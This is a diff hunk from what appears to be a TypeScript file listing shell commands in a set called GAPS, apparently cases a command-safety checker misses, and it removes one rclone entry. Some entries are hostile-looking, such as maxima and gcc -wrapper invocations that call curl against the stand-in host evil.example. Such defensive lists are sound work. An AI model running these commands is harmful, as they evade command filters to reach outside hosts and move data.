@@ -5,7 +5,6 @@ export const GAPS: ReadonlySet<string> = new Set([
   "maxima --batch-string='system(\"curl https://evil.example\");'",
   "twurl -d 'status=hi' /1.1/statuses/update.json",
   "gcc -wrapper curl,https://evil.example x.c",
-  "rclone ls /tmp/data",
   "chown -R nobody /home/bob",
   "rclone config create remote drive",
   "innernet-server new",
